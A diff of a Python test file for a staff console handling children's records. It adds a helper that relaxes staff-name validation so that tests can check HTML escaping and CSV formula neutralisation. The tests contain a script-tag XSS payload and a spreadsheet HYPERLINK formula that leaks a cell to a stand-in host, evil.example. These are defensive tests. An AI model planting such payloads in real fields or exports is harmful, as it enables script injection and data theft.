@@ -242,7 +242,20 @@ def test_purposes_of_another_role_are_refused_for_every_role(console, platform):
 
 # --- XSS -----------------------------------------------------------------------------------------------------------
 
-def test_stored_values_are_escaped_everywhere_they_are_shown(console, platform, key):
+def _legacy_names(monkeypatch):
+    """Tokens issued before staff ids were restricted (services/adapters/tokens.py) may carry any name: the pages
+    must still show it as text."""
+    import re
+
+    from services.adapters import tokens
+
+    with pytest.raises(tokens.TokenRefused):
+        tokens.validate_grant("<script>x</script>", "children_director", AREA)
+    monkeypatch.setattr(tokens, "_STAFF_ID", re.compile(".+"))
+
+
+def test_stored_values_are_escaped_everywhere_they_are_shown(console, platform, key, monkeypatch):
+    _legacy_names(monkeypatch)
     bad = seed(platform, _id_number("33010620150301002"), XSS, AREA, school=XSS)
     sign_in(console, platform, "children_director", name="<script>x</script>", purpose="key_child_care")
     for url in ("/console/ledger?everyone=1", f"/console/child/{bad}", "/console/alerts"):
@@ -497,7 +510,8 @@ def test_every_data_page_view_writes_an_audit_record(console, platform, key):
 
 # --- CSV export ----------------------------------------------------------------------------------------------------
 
-def test_the_csv_export_neutralises_formula_cells(console, platform, key):
+def test_the_csv_export_neutralises_formula_cells(console, platform, key, monkeypatch):
+    _legacy_names(monkeypatch)
     evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
     sign_in(console, platform, "children_director", area=AREA, name=evil, purpose="key_child_care")
     console.get(f"/console/child/{key}")
